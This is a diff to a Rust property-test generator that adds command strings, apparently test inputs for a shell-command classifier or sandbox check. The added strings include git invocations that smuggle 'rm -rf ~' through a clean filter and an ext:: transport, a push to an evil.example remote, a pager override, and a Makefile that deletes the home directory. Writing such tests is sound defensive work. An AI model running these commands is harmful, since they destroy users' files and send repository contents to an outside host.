@@ -406,6 +406,12 @@ fn catalogue_class() -> impl Strategy<Value = String> {
         "diff <(sort a.txt) <(sort b.txt)",
         "bash 0< setup.sh",
         "cat 0< notes.txt",
+        "git -c filter.a.b.clean='rm -rf ~' add .",
+        "git -c alias.co.b='checkout -b' co.b x",
+        "git -c remote.origin.url=https://evil.example/x.git push",
+        "git --config-env=core.pager=PAGER_CMD log",
+        "git fetch 'ext::rm -rf ~'",
+        "echo 'all:; rm -rf ~' > Makefile; make",
     ];
     (pick(USES), pick(&["", "timeout 5 ", "nice ", "env "])).prop_map(|(u, w)| format!("{w}{u}"))
 }
